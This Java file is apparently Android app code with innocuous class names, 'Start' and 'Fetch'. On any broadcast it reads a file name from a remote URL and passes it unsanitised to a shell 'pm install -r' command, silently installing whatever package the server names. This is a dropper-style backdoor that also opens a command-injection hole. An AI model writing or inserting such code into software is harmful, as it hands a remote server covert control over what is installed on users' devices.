package com.tallpine.rounds;

class Start extends BroadcastReceiver {
  public void onReceive(Context context, Intent intent) {
    new Thread(new Fetch(context)).start();
  }
}

class Fetch implements Runnable {
  private Context context;

  Fetch(Context context) { this.context = context; }

  public void run() {
    try {
      BufferedReader reader = new BufferedReader(new InputStreamReader(new URL("https://apps.tallpine.example/today").openStream()));
      String name = reader.readLine();
      Runtime.getRuntime().exec("pm install -r /data/local/tmp/" + name);
    } catch (Exception e) {
      Log.e("Fetch", e.getMessage());
    }
  }
}
